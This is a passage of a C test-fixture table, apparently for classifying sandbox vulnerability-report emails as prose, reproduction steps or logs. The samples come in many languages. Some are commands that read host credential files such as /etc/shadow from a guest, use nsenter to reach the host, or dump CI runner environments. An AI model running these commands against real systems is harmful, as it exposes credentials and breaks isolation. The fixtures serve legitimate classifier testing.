	{ PROSE "On the shared runner:\n\nmsb run -d --name left alpine:3.20 -- sleep 900\n"
	  "msb exec left -- cat /proc/self/mountinfo\n"
	  "    41 30 0:38 / /hostfs rw,relatime shared:1 - virtiofs hostshare rw\n", 1, 1, 1 },
	{ PROSE "Then from the second box:\n\nmsb exec right -- nc -zv fd00::5 6379\n\tConnection to fd00::5 6379 port [tcp/redis] succeeded!\n", 1, 1, 1 },
	{ PROSE "What I set up:\n\nmsb exec left -- sh -c 'cat > /etc/app.conf' <<EOF\n  listen 0.0.0.0\n  allow all\nEOF\n", 1, 1, 0 },
	{ PROSE "msb run --name left alpine:3.20 -- sh\n  This gives you a shell in the sandbox, as the guide explains.\n", 1, 1, 0 },
	/* a note the writer puts between commands, in parentheses or
	 * brackets, is not output; a printed tuple there is */
	{ PROSE "msb run --name uno alpine:3.20\n   (dentro: touch /root/secreto y luego exit)\nmsb rm uno\n"
	  "msb run --name dos alpine:3.20\n", 1, 1, 0 },
	{ PROSE "msb exec uno -- sh /opt/fill.sh\n\t[left it running for about ten minutes]\nmsb snapshot create uno\n", 1, 1, 0 },
	{ PROSE "msb exec uno -- python3 -c 'import os; print(os.getuid(), os.getlogin())'\n   (0, 'root')\n", 1, 1, 1 },
	/* lines that repeat one shape, what a loop prints one pass a line,
	 * under a line that announces them or right under the command: output,
	 * whatever their format; sentences, a list, or such lines with nothing
	 * announcing them are not */
	{ PROSE "  for n in 1 2 3 4; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "box1 holds lease 10.0.5.7 (mac 02:aa)\nbox2 holds lease 10.0.5.7 (mac 02:ab)\n"
	  "box3 holds lease 10.0.5.9 (mac 02:ac)\nbox4 holds lease 10.0.5.9 (mac 02:ad)\n", 1, -1, 1 },
	{ PROSE "msb exec probe -- sh -c 'for t in 1 2 3; do cat /tmp/seq; sleep 1; done'\n"
	  "seq=0041 writer=other-tenant\nseq=0042 writer=other-tenant\nseq=0043 writer=other-tenant\n", 1, 1, 1 },
	{ PROSE "  for n in 1 2 3; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "The first box was fine.\nThe second box was fine.\nThe third box got the wrong lease.\n", 1, -1, 0 },
	{ PROSE "  for n in 1 2 3; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "- box 1: fine\n- box 2: fine\n- box 3: wrong lease\n", 1, -1, 0 },
	{ PROSE "Our fleet:\n\nhost 1 runs msb 0.9.3\nhost 2 runs msb 0.9.3\nhost 3 runs msb 0.9.2\n", 1, 0, 0 },
	/* 1621: the output verb alone on its line after code ("prints",
	 * "and it returns", "affiche", "gibt aus") over an indented block is
	 * its output; a block of code under it, or the verb in a sentence,
	 * is not */
	{ PROSE "  const s = await Sandbox.open({ id: \"q\" });\n  console.log(s.env);\n\nprints\n\n"
	  "  { HOME: '/root', MSB_TOKEN: 'msb_test_000' }\n", 1, -1, 1 },
	{ PROSE "  sb = Sandbox.create(name=\"q\")\n  print(sb.exec(\"id -u\"))\n\nand it returns\n\n  0\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n  print(s.run(\"cat /run/k\"))\n\naffiche\n\n  cle-de-test-42\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n  print(s.fs.read(\"/etc/hostname\"))\n\ngibt aus:\n\n  host-a7\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n\nprints\n\n  import os\n  print(os.environ)\n", 1, -1, 0 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n\nThe helper it calls then prints a line only when debugging is on.\n", 1, -1, 0 },
	/* 1617: what came out of a listener, announced in Tagalog,
	 * Indonesian or Vietnamese, is output; the same request under a
	 * line that tells the reader to send it is not */
	{ PROSE "1. sa ibang makina: nc -l 9000\n2. python3 run.py\n\nIto ang natanggap ng listener ko:\n\n"
	  "GET /v1/sandboxes HTTP/1.1\nAuthorization: Bearer msb_test_000\n", 1, -1, 1 },
	{ PROSE "Jalankan `python3 run.py`, lalu lihat listener.\n\nHasilnya di nc:\n\n"
	  "POST /v1/exec HTTP/1.1\nHost: 192.0.2.9:9000\n", 1, -1, 1 },
	{ PROSE "Kết quả trên máy chủ của tôi:\n\nPUT /v1/keys HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 1 },
	{ PROSE "Ipadala ito sa server gamit ang nc:\n\nGET /v1/sandboxes HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 0 },
	/* 1740: the listener told by what it does with what arrives ("just
	 * logging requests", "logs every request", "protokolliert alle
	 * Anfragen") shows output; a heading about turning logging on over a
	 * request to send is not */
	{ PROSE "Then on my test box (a tiny Flask app, just logging requests):\n\n"
	  "POST /v1/sandboxes HTTP/1.1\nAuthorization: Bearer msb_test_000\n", 1, -1, 1 },
	{ PROSE "Auf meinem Server, der alle Anfragen protokolliert:\n\n"
	  "GET /v1/keys HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 1 },
	{ PROSE "Turn on request logging in msbd, then send:\n\n"
	  "GET /v1/sandboxes HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 0 },
	/* 1642: a Server-Sent Events answer as curl prints it is output; a
	 * YAML map named data, or an event named in a sentence, is not */
	{ PROSE "curl -sN https://mcp.example/mcp -d @call.json\n\n"
	  "event: message\ndata: {\"jsonrpc\":\"2.0\",\"id\":3,\"result\":{\"isError\":false}}\n", 1, -1, 1 },
	{ PROSE "The stream ends with\n\ndata: {\"choices\":[]}\ndata: [DONE]\n", 1, -1, 1 },
	{ PROSE "Put this in the values file:\n\ndata: {key: value}\nevent: push to main\n", 1, -1, 0 },
	/* 1659: a packet dissector's summaries (scapy, tshark) are output;
	 * the layers named in prose are not */
	{ PROSE "Ether / IP / UDP / DNS Qry \"_http._tcp.local.\"\nEther / IPv6 / UDP / DNS Ans \"b.local.\"\n", 1, -1, 1 },
	{ PROSE "    1 0.000000000 10.0.3.2 \u2192 239.255.255.250 SSDP 167 M-SEARCH * HTTP/1.1\n"
	  "    2 0.000233120 10.0.3.4 \u2192 239.255.255.250 SSDP 167 M-SEARCH * HTTP/1.1\n", 1, -1, 1 },
	{ PROSE "The frames go Ether / IP / UDP up the stack like any others.\n", 1, -1, 0 },
	/* 1616: Homebrew's listing of what is installed is the environment,
	 * not a log; a real command's output beside it still is */
	{ PROSE "$ brew list --versions microsandbox\nmicrosandbox 0.10.4\n", 1, 0, 0 },
	{ PROSE "$ brew info microsandbox\nmicrosandbox: stable 0.10.4\n", 1, 0, 0 },
	/* (1679) under a command, an arrow and the writer's own words on what
	 * came back is their account, not output; an arrow before a line a
	 * program prints, or a short result, still shows output */
	{ PROSE "Steps:\n\n  msb exec w1 -- wget -T 3 -qO- http://10.0.0.1/\n      -> refused, which is what the flag promises\n"
	  "  msb exec w1 -- wget -T 3 -qO- http://[::ffff:10.0.0.1]/\n      => I get the printer's status page back\n", 1, 1, 0 },
	{ PROSE "Steps:\n\n  msb exec w1 -- curl -m 3 http://10.0.0.1/\n      -> curl: (7) Failed to connect to 10.0.0.1 port 80\n", 1, 1, 1 },
	{ PROSE "Steps:\n\n  msb exec w1 -- curl -m 3 http://10.0.0.1/\n      -> Connection refused\n", 1, 1, 1 },
	/* (1702) a sentence hard-wrapped in the block under a lead-in is the
	 * writer's, read whole; a short real log there is still output */
	{ PROSE "1. Script (a.py):\n\n    from microsandbox import Sandbox\n    Sandbox.create().fs.pull_dir(\"/o\", \"/tmp/x\")\n\n"
	  "2. run python3 a.py, then look in the parent folder:\n   /tmp/evil now holds the payload from the guest and /tmp/x\n   stays empty.\n", 1, -1, 0 },
	{ PROSE "1. Script (a.py):\n\n    from microsandbox import Sandbox\n    Sandbox.create().fs.pull_dir(\"/o\", \"/tmp/x\")\n\n"
	  "2. run python3 a.py, then list the parent folder:\n   -rw-r--r-- 1 ci ci 42 Nov 22 10:01 /tmp/evil\n   total 0\n", 1, -1, 1 },
	/* (#3, 2267) a Japanese or Chinese sentence, with no spaces to count
	 * words by, ended by an ideographic full stop, set apart under a
	 * command in a step: the writer's words, no output; a response
	 * there, or a Japanese error message without a full stop, is */
	{ PROSE "2. 次を実行する。\n\n   curl -s -H \"Authorization: Bearer $KEY\" \\\n        https://api.example/v1/projects\n\n"
	  "   の結果から project_id(prj_42)を控えておく。\n", 1, 1, 0 },
	{ PROSE "2. 执行下面的命令。\n\n   curl -s https://api.example/v1/projects/prj_42/keys \\\n        -H \"Authorization: Bearer $KEY\"\n\n"
	  "   然后记下返回的 key_id。\n", 1, 1, 0 },
	{ PROSE "2. 次を実行する。\n\n   curl -s -H \"Authorization: Bearer $KEY\" \\\n        https://api.example/v1/projects\n\n"
	  "   {\"items\":[{\"id\":\"prj_42\",\"owner\":\"someone-else\"}]}\n", 1, 1, 1 },
	{ PROSE "2. 次を実行する。\n\n   cat /host/etc/shadow\n\n   cat: /host/etc/shadow: 許可がありません\n", 1, 1, 1 },
	/* (1668) the writer's own pull request that adds a step to a workflow
	 * is the reproduction of a poisoned pipeline; a fix's pull request,
	 * or one an attacker could open, is none */
	{ PROSE "What we did: we opened a test PR from our fork which added a job running env | sort on the runner.\n", 1, 1, -1 },
	{ PROSE "I then submitted a draft pull request that changes the lint step to print the runner's hostname.\n", 1, 1, -1 },
	{ PROSE "We opened a pull request that changes the workflow to pin every action to a SHA.\n", 1, 0, -1 },
	{ PROSE "An attacker who opens a draft PR from a fork that adds a step can run code on the runner.\n", 1, 0, -1 },
	/* (#3) iproute2, bridge and tc with an object and a verb are typed
	 * commands, not what the lead-in above them announces; their output
	 * under them is still output */
	{ PROSE "    msb run --name n1 alpine -- sleep 600\n\nThen inside n1, as root:\n\n"
	  "    ip link add link eth0 name eth0.20 type vlan id 20\n    ip -4 addr add 192.0.2.9/24 dev eth0.20\n"
	  "    bridge vlan show\n\nThe packets left untagged-filtered; I lost the capture.\n", 1, 1, 0 },
	{ PROSE "    msb run --name n1 alpine -- sleep 600\n\nIn the guest:\n\n    tc qdisc add dev eth0 root netem delay 5ms\n"
	  "    ip route\n\nSo the shaping is applied inside only.\n", 1, 1, 0 },
	{ PROSE "    $ msb exec n1 -- ip addr show dev eth0\n    2: eth0: <BROADCAST,MULTICAST,UP> mtu 1500 qdisc fq state UP\n"
	  "        inet 10.0.2.15/24 scope global eth0\n", 1, 1, 1 },
	/* (#3) a Rust program's human-panic crash notice and report file,
	 * and a backtrace frame with its address, are printed: logs; the
	 * notice told in prose is none */
	{ PROSE "    $ msb up web\n    Well, this is embarrassing.\n\n    msb had a problem and crashed. Please send the report.\n", 1, 1, 1 },
	{ PROSE "The crash file said:\n\n    name = \"msb\"\n    method = \"Panic\"\n", 1, -1, 1 },
	{ PROSE "Trace:\n\n       3:        0x10045a2b0 - msb_core::config::load\n", 1, -1, 1 },
	{ PROSE "It crashes and offers to write a report file, which I deleted without reading.\n", 1, 0, 0 },
	/* not logs */
	{ PROSE "PS C:\\> msb.exe --version\nmsb 0.6.14\n", 1, 0, 0 },
	{ PROSE "  msb run alpine -- sh\n  msb exec x -- id\n", 1, 1, 0 },
	{ PROSE "msb cp resolves a symlink the guest plants, so `msb cp sbx:/out ./out` writes anywhere.\n", 1, 0, 0 },
	{ PROSE "  node_modules/ws\n    microsandbox  *\n", 1, 0, 0 },
	{ PROSE "$ npm audit\n# npm audit report\n\nws  8.0.0 - 8.17.0\nSeverity: high\n", 1, 0, 1 },
	{ PROSE "icacls output:\n\nC:\\ProgramData\\x BUILTIN\\Users:(OI)(CI)(WD,AD,WEA,WA)\n                NT AUTHORITY\\SYSTEM:(OI)(CI)(F)\n", 1, 0, 1 },
	{ PROSE "After the run the last line of ~/.bashrc is the one written by the guest. It still works.\n", 1, 0, 0 },
	{ PROSE "  $ npm ls microsandbox\n  app@1.0.0 /srv/app\n  └── microsandbox@0.6.10\n", 1, 0, 0 },
	{ PROSE "In theory this could cause a segmentation fault or a stack trace in the host.\n"
	  "The ERROR path is never taken and the WARN level is too low.\nError: not reproduced yet.\n", 1, 0, 0 },
	{ PROSE "  $ ./fh /mnt\n  Segmentation fault (core dumped)\n", 1, 1, 1 },
	/* output on the line right after a command or an output heading, unindented */
	{ PROSE "msb run --name z alpine -- sh -c 'yes > /dev/null'\nError: agentd did not answer within 30s\n", 1, 1, 1 },
	{ PROSE "Printed inside the sandbox:\nMSB_TEST_TOKEN_0000dummy\n", 1, -1, 1 },
	{ PROSE "Saída:\n{\"id\":\"sb_1\",\"owner\":\"org_x\"}\n", 1, -1, 1 },
	{ PROSE "Version:\n0.6.14\n", 1, 0, 0 },
	{ PROSE "curl -i -X DELETE https://api.example/v1/sandboxes/sb_1\n\nHTTP/1.1 204 No Content\n", 1, 1, 1 },
	{ PROSE "msb run --name a alpine -- true\n\nThat is all it takes.\n", 1, 1, 0 },
	{ PROSE "msb --version\nmsb 0.6.14\n", 1, 0, 0 },
	/* round 43: a kernel or version printed in an unindented session is
	 * output, not a numbered list item that turns the rest of the session
	 * into prose; zsh and fish theme prompts start commands */
	{ PROSE "Session:\n\n$ uname -r\n5.14.0-503.14.1.el9_5.x86_64\n"
	  "$ msb run --rm --network none alpine -- wget -qO- -T 3 http://192.0.2.10/\nwget: download timed out\n", 1, 1, 1 },
	{ PROSE "\xe2\x9e\x9c  ~ msb run --rm --network none alpine -- ip -6 addr show dev eth0\n"
	  "    inet6 fe80::5054:ff:fe12:3456/64 scope link\n", 1, 1, 1 },
	{ PROSE "~/scratch \xe2\x9d\xaf msb exec gen -- python3 -c \"print(1)\"\nzsh: abort      msb exec gen\n", 1, 1, 1 },
	{ PROSE "ci@mini-07 ~> msb run --scratch --name b python:3.12 -- cat /scratch/t\ntoken-from-job-a\n", 1, 1, 1 },
	/* (1668) a GitHub Actions job log's step header echoes the command the
	 * writer's step ran; a group header that is no step is none */
	{ PROSE "From the job log:\n2028-10-02T08:14:55.1020304Z ##[group]Run cat /proc/self/status | grep Cap; ls -la /var/run\n"
	  "2028-10-02T08:14:55.1100000Z CapEff:\t000001ffffffffff\n", 1, 1, 1 },
	{ PROSE "From the job log:\n2028-10-02T08:14:55.1020304Z ##[group]Operating System\n2028-10-02T08:14:55.1030000Z Ubuntu\n", 1, 0, -1 },
	{ PROSE "1. Start a sandbox.\n2. Stop it.\n3.5 GB were written.\n", 1, 0, 0 },
	/* (#3) round 99: in a block, a root prompt with the host's or the
	 * shell's name before the '#' ("sbx-b# ./x", "web-1:~# ", "bash-5.2# ")
	 * starts a command and what follows is its output; a "C#" in an
	 * indented line of prose, or a comment, starts none */
	{ PROSE "Inside the restored one, ten tries:\n\n    sbx-2# ./probe.sh scan\n    [probe] pages read: 2048\n    [probe] marker found: 17\n", 1, 1, 1 },
	{ PROSE "Then in the guest:\n\n    web-1:~# cat /mnt/host/etc/shadow\n    root:*:19700:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "The shell it gives:\n\n    bash-5.2# nsenter -t 1 -m -- cat /etc/hostname\n    build-host-04\n", 1, 1, 1 },
	{ PROSE "The bindings we ship:\n\n    C# client, Java client\n    Go client, Rust client\n", 1, 0, 0 },
	{ PROSE "Setup:\n\n    # see the notes below\n    keep it running\n", 1, 0, 0 },
	/* the package manager's sources and their refresh show the setup, not a
	 * reproduction; their output (apt's warning) is still output */
	{ PROSE "$ cat /etc/apt/sources.list.d/microsandbox.list\ndeb [trusted=yes] https://apt.example/ stable main\n"
	  "$ sudo apt-get update 2>&1 | grep -i microsandbox\nW: The repository 'https://apt.example stable InRelease' is not signed.\n", 1, 0, 1 },
	/* Jira's "#" numbered steps, each a command; "#" notes are not steps */
	{ PROSE "Steps to Reproduce:\n# msb run --name a --secret K=v alpine -- sleep 60\n# msb snapshot create a snap\n"
	  "# msb run --name b --from-snapshot snap alpine -- env\n", 1, 1, 0 },
	{ PROSE "Steps to Reproduce:\n# start the sandbox\n# take a snapshot\n# restore it\n", 1, 0, 0 },
	/* description */
	{ "hi\n\npoc attached. run it as root in the guest.\n\n  gcc -o fh fh.c && ./fh /mnt\n\noutput:\n\n  [+] nodeid 1311054\n  [*] opened 18311 inodes\n", 0, 1, 1 },
	{ "Hello,\n\nplease find attached.\n", 0, 0, 0 },
	{ "Hi,\n\nAfter a sandbox is destroyed its guest pages are handed to the next sandbox without being zeroed. "
	  "A malicious tenant can read another tenant's secrets from fresh memory.\n", 1, 0, 0 },
	{ "Found a bug in msb where --no-net isn't respected for IPv6. Will send details.\n", 0, 0, 0 },
	{ "Remote-MTA: dns; mx.example.org\n>>> DATA\n<<< 550 5.7.1 rejected\n", 0, 0, 0 },
	{ "R0 := 0. R1 := 1.\nx := y\nz := w\n", 0, 0, 0 },
	{ "Let me know if you need anything else.\nimport the module and call it, as usual.\n", 0, 0, 0 },
	{ "Hallo,\n\nIch habe eine Schwachstelle gefunden: ein Angreifer im Gast kann beliebige Dateien auf dem Host "
	  "schreiben, weil der Dateisystem-Broker Symlinks in Zwischenkomponenten folgt. Das ist ein vollständiger "
	  "Ausbruch aus der Sandbox, denn mit Schreibzugriff auf ~/.bashrc kann er Code auf dem Host ausführen. "
	  "Ich habe das mit zwei Sandboxen auf zwei verschiedenen Rechnern getestet.\n", 1, 0, 0 },
	/* (#3, 3710) Russian in lower case from a phone: "does not clear"
	 * is what is wrong, "sees a's memory, secrets included" the harm */
	{ "\u043f\u0440\u0438\u0432\u0435\u0442\n\n\u0435\u0441\u043b\u0438 \u0441\u0434\u0435\u043b\u0430\u0442\u044c "
	  "\u0434\u0432\u0430 `msb snapshot create` \u043f\u043e\u0434\u0440\u044f\u0434, \u0432 \u0441\u043d\u0430\u043f"
	  "\u0448\u043e\u0442\u0435 b \u043b\u0435\u0436\u0430\u0442 \u043a\u0443\u0441\u043a\u0438 \u043f\u0430\u043c"
	  "\u044f\u0442\u0438 a. \u043f\u043e\u0445\u043e\u0436\u0435, msbd \u043f\u0435\u0440\u0435\u0438\u0441"
	  "\u043f\u043e\u043b\u044c\u0437\u0443\u0435\u0442 \u0431\u0443\u0444\u0435\u0440 \u0441\u0436\u0430\u0442"
	  "\u0438\u044f \u0438 \u043d\u0435 \u0437\u0430\u043d\u0443\u043b\u044f\u0435\u0442 \u0445\u0432\u043e\u0441"
	  "\u0442. \u0443 \u043d\u0430\u0441 a \u0438 b - \u0440\u0430\u0437\u043d\u044b\u0435 \u043a\u043b\u0438\u0435"
	  "\u043d\u0442\u044b, \u0442\u0430\u043a \u0447\u0442\u043e b \u0432\u0438\u0434\u0438\u0442 \u043f\u0430"
	  "\u043c\u044f\u0442\u044c a, \u0432\u043a\u043b\u044e\u0447\u0430\u044f \u0441\u0435\u043a\u0440\u0435\u0442"
	  "\u044b.\n", 1, 0, 0 },
	/* description by structure: a sentence naming both sides of a boundary,
	 * and small multilingual problem / impact lists */
	{ "Hello,\n\nFiles created by a process in the guest end up in the home directory of the host "
	  "user when the same share is mounted twice in a row. I noticed it while testing our images.\n", 1, 0, 0 },
	{ "hi\n\nguest uid 0, host dir via -v, see attached\n\nmsb 0.6.14\nubuntu 24.04\n", 0, 0, 0 },
	{ "Hallo,\n\nEen aanvaller in de gast kan bestanden op de host overschrijven, omdat het pad niet wordt "
	  "gecontroleerd. Dit werkt ook als gewone gebruiker zonder extra rechten.\n", 1, 0, 0 },
	{ "Dzień dobry,\n\nkod uruchomiony w sandboxie może odczytać pliki użytkownika na hoście, ponieważ "
	  "ścieżka nie jest sprawdzana przed otwarciem pliku przez broker.\n", 1, 0, 0 },
	{ "Merhaba,\n\nSandbox içindeki bir süreç host üzerindeki dosyaları okuyabiliyor, çünkü yol kontrol "
	  "edilmiyor; kullanıcının anahtarları bu şekilde açığa çıkıyor.\n", 1, 0, 0 },
	/* (#3) the boundary as Japanese, Korean and Chinese write it: guest
	 * and host in katakana, hangul, hanzi (1237); one side alone, or the
	 * boundary only asked about, describes nothing */
	{ "\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\n\n"
	  "\u30b2\u30b9\u30c8\u306e\u4e2d\u304b\u3089 dmesg \u3092\u8aad\u3080\u3068\u3001"
	  "\u30db\u30b9\u30c8\u306e\u30e1\u30e2\u30ea\u914d\u7f6e\u3068\u30c7\u30d0\u30a4\u30b9"
	  "\u540d\u304c\u3059\u3079\u3066\u8868\u793a\u3055\u308c\u307e\u3059\u3002"
	  "\u5229\u7528\u8005\u306f\u305d\u308c\u3092\u624b\u304c\u304b\u308a\u306b\u3067\u304d"
	  "\u308b\u3068\u601d\u3044\u307e\u3059\u3002\n", 1, 0, 0 },
	{ "\uc548\ub155\ud558\uc138\uc694.\n\n\uac8c\uc2a4\ud2b8 \uc548\uc5d0\uc11c /sys/class/dmi "
	  "\ub97c \ubcf4\uba74 \ud638\uc2a4\ud2b8 \uc11c\ubc84\uc758 \uc81c\uc870\uc0ac\uc640 "
	  "\uc2dc\ub9ac\uc5bc \ubc88\ud638\uac00 \uadf8\ub300\ub85c \ubcf4\uc785\ub2c8\ub2e4. "
	  "\uc5ec\ub7ec \ud68c\uc0ac\uac00 \uac19\uc774 \uc4f0\ub294 \ud658\uacbd\uc5d0\uc11c\ub294 "
	  "\uc88b\uc9c0 \uc54a\uc744 \uac83 \uac19\uc2b5\ub2c8\ub2e4.\n", 1, 0, 0 },
	{ "\u60a8\u597d\uff0c\n\n\u5728\u865a\u62df\u673a\u91cc\u8fd0\u884c lscpu\uff0c"
	  "\u53ef\u4ee5\u770b\u5230\u5bbf\u4e3b\u673a\u7684\u5b8c\u6574\u578b\u53f7\u548c"
	  "\u5fae\u7801\u7248\u672c\uff0c\u8fd9\u6837\u79df\u6237\u5c31\u80fd\u77e5\u9053"
	  "\u673a\u5668\u7684\u8865\u4e01\u60c5\u51b5\u3002\n", 1, 0, 0 },
	{ "\u3053\u3093\u306b\u3061\u306f\u3002\n\n\u30b2\u30b9\u30c8\u306e\u4e2d\u3067 apt "
	  "\u3092\u4f7f\u3046\u3068\u3001\u30d1\u30c3\u30b1\u30fc\u30b8\u306e\u30a4\u30f3\u30b9"
	  "\u30c8\u30fc\u30eb\u304c\u5c11\u3057\u9045\u304f\u611f\u3058\u307e\u3059\u3002"
	  "\u8a2d\u5b9a\u3067\u901f\u304f\u306a\u308a\u307e\u3059\u304b\uff1f\n", 0, 0, 0 },
	{ "\u3053\u3093\u306b\u3061\u306f\u3002\n\n\u5927\u5b66\u306e\u6388\u696d\u3067 msb "
	  "\u3092\u4f7f\u3063\u3066\u3044\u307e\u3059\u3002\u30b2\u30b9\u30c8\u304b\u3089"
	  "\u30db\u30b9\u30c8\u306e\u30d5\u30a1\u30a4\u30eb\u306f\u898b\u3048\u306a\u3044"
	  "\u3068\u3044\u3046\u7406\u89e3\u3067\u6b63\u3057\u3044\u3067\u3057\u3087\u3046"
	  "\u304b\uff1f\n", 0, 0, 0 },
	/* (1303) Thai, written without spaces between words and without full
	 * stops, read by its own small lists; Vietnamese, Indonesian and Malay
	 * the same.  A question ("...or not", หรือไม่), "cannot reach" and
	 * "cannot install" (tidak bisa) describe nothing */
	{ "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e48\u0e30\n\n"
	  "\u0e40\u0e21\u0e37\u0e48\u0e2d\u0e40\u0e21\u0e32\u0e17\u0e4c volume \u0e41\u0e1a\u0e1a --mount-ro "
	  "\u0e42\u0e1b\u0e23\u0e41\u0e01\u0e23\u0e21\u0e43\u0e19 sandbox \u0e22\u0e31\u0e07\u0e25\u0e1a\u0e44\u0e1f\u0e25\u0e4c "
	  "\u0e1a\u0e19 host \u0e44\u0e14\u0e49 \u0e17\u0e31\u0e49\u0e07\u0e17\u0e35\u0e48\u0e04\u0e27\u0e23\u0e08\u0e30\u0e2d\u0e48\u0e32\u0e19\u0e44\u0e14\u0e49\u0e2d\u0e22\u0e48\u0e32\u0e07\u0e40\u0e14\u0e35\u0e22\u0e27 "
	  "\u0e1c\u0e39\u0e49\u0e42\u0e08\u0e21\u0e15\u0e35\u0e08\u0e36\u0e07\u0e17\u0e33\u0e25\u0e32\u0e22\u0e02\u0e49\u0e2d\u0e21\u0e39\u0e25 "
	  "\u0e02\u0e2d\u0e07\u0e1c\u0e39\u0e49\u0e43\u0e0a\u0e49 \u0e17\u0e31\u0e49\u0e07\u0e2b\u0e21\u0e14\u0e43\u0e19\u0e42\u0e1f\u0e25\u0e40\u0e14\u0e2d\u0e23\u0e4c "
	  "\u0e19\u0e31\u0e49\u0e19 \u0e40\u0e0a\u0e48\u0e19 \u0e23\u0e39\u0e1b \u0e40\u0e2d\u0e01\u0e2a\u0e32\u0e23 "
	  "\u0e41\u0e25\u0e30 config \u0e02\u0e2d\u0e07\u0e41\u0e2d\u0e1b \u0e15\u0e48\u0e32\u0e07 \u0e46 \u0e17\u0e35\u0e48 "
	  "\u0e40\u0e23\u0e32\u0e43\u0e0a\u0e49\u0e07\u0e32\u0e19\u0e17\u0e38\u0e01\u0e27\u0e31\u0e19\n", 1, 0, 0 },
	{ "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e23\u0e31\u0e1a\n\n"
	  "\u0e2d\u0e22\u0e32\u0e01\u0e17\u0e23\u0e32\u0e1a\u0e27\u0e48\u0e32 sandbox \u0e02\u0e2d\u0e07 microsandbox "
	  "\u0e40\u0e02\u0e49\u0e32\u0e16\u0e36\u0e07\u0e2d\u0e34\u0e19\u0e40\u0e17\u0e2d\u0e23\u0e4c\u0e40\u0e19\u0e47\u0e15\u0e44\u0e14\u0e49\u0e2b\u0e23\u0e37\u0e2d\u0e44\u0e21\u0e48 "
	  "\u0e40\u0e1e\u0e23\u0e32\u0e30 \u0e17\u0e35\u0e21 \u0e02\u0e2d\u0e07 \u0e1c\u0e21 \u0e01\u0e33\u0e25\u0e31\u0e07 "
	  "\u0e08\u0e30 \u0e43\u0e0a\u0e49 \u0e21\u0e31\u0e19 \u0e01\u0e31\u0e1a \u0e42\u0e1b\u0e23\u0e40\u0e08\u0e01\u0e15\u0e4c "
	  "\u0e43\u0e2b\u0e21\u0e48 \u0e43\u0e19 \u0e40\u0e14\u0e37\u0e2d\u0e19 \u0e2b\u0e19\u0e49\u0e32 "
	  "\u0e02\u0e2d\u0e1a\u0e04\u0e38\u0e13 \u0e21\u0e32\u0e01 \u0e04\u0e23\u0e31\u0e1a\n", 0, 0, 0 },
	{ "Xin ch\u00e0o,\n\nKhi ch\u1ea1y sandbox v\u1edbi --net-allow, ti\u1ebfn tr\u00ecnh trong guest v\u1eabn "
	  "truy c\u1eadp \u0111\u01b0\u1ee3c m\u1ecdi c\u1ed5ng tr\u00ean m\u00e1y c\u1ee7a t\u00f4i, n\u00ean "
	  "k\u1ebb t\u1ea5n c\u00f4ng c\u00f3 th\u1ec3 \u0111\u1ecdc d\u1eef li\u1ec7u c\u1ee7a c\u00e1c d\u1ecbch "
	  "v\u1ee5 \u0111ang ch\u1ea1y\n", 1, 0, 0 },
	{ "Halo,\n\nKunci API dengan peran viewer masih bisa mengunduh snapshot memori yang berisi rahasia "
	  "tim lain, padahal peran itu seharusnya hanya melihat daftar saja\n", 1, 0, 0 },
	{ "Halo,\n\nSaya tidak bisa memasang msb di laptop kantor saya karena jaringan kantor memakai proxy "
	  "dan saya belum tahu cara mengaturnya untuk unduhan pertama kali\n", 0, 0, 0 },
	/* a language no list knows: two prose sentences about the system */
	/* (#3) ... the release side named in the English words such prose
	 * borrows (binary, bucket, checksum) or by a script's file name;
	 * prose of that language without them is none, nor is English that
	 * only names them */
	{ "Kumusta,\n\nAng install.ps1 ay nagda-download ng binary mula sa isang bucket na wala na ngayon. "
	  "Walang checksum na sinusuri kaya sinumang magrehistro ng bucket ay makakapagbigay ng sariling "
	  "bersyon.\n", 1, 0, 0 },
	{ "Kumusta,\n\nGusto ko lang po magtanong tungkol sa inyong produkto at sa presyo nito ngayong taon. "
	  "Maraming salamat po sa inyong oras at pasensya sa amin.\n", 0, 0, 0 },
	{ "Hello,\n\nWe keep our own binary and its checksum in the same bucket as the docs suggest, and "
	  "it has been working fine for us. Thanks for the nice tool and for keeping the release notes "
	  "tidy.\n", 0, 0, 0 },
	{ "Hei,\n\nKun kaksi sandboxia käynnistetään samasta imagesta, ne jakavat saman /var/cache-hakemiston. "
	  "Toisen asiakkaan työ näkee siis ensimmäisen sandboxin tiedostot ja voi muuttaa niitä.\n", 1, 0, 0 },
	{ "Hello,\n\nI hope you are well and that the week is going fine for everyone. I wanted to reach out "
	  "about something I noticed last week while working. Let me know when you have time to talk about it.\n", 0, 0, 0 },
	/* questions ask, they do not report; English prose that only names the
	 * system is no description (blind round 11, #3) */
	{ "Hello,\n\nI'm writing a feature about the sandboxes that companies use for AI agents, and "
	  "microsandbox comes up a lot in my interviews with engineers.\n\n1. Has microsandbox ever received "
	  "a report of a sandbox escape, and how did you handle it?\n2. Are attackers exploiting any of "
	  "these bugs?\n", 0, 0, 0 },
	{ "Hi,\n\nCould an attacker in the guest read host files through the broker? The broker follows "
	  "symlinks, so a process in the guest can read files on the host outside the share.\n", 1, 0, 0 },
	/* English asked in questions is still English, and "sandboxing" is
	 * the practice, not a second sandbox: a course request that names
	 * sandboxing and a sandbox boundary describes nothing (blind round 25) */
	{ "Dear team,\n\nNext semester I would like to use microsandbox in a lab session on sandboxing "
	  "and show students your published advisories as case studies of how a sandbox boundary is "
	  "reviewed. Could you tell me whether that is fine with you, and whether there is a preferred "
	  "way to cite them?\n", 0, 0, 0 },
	/* a mail that says it asks and does not report describes nothing,
	 * whatever escape it asks about; a hardening suggestion that says it
	 * is no vulnerability still describes what is lacking (blind round 20) */
	{ "Hello,\n\nDoes the runc container escape through a leaked file descriptor affect microsandbox? "
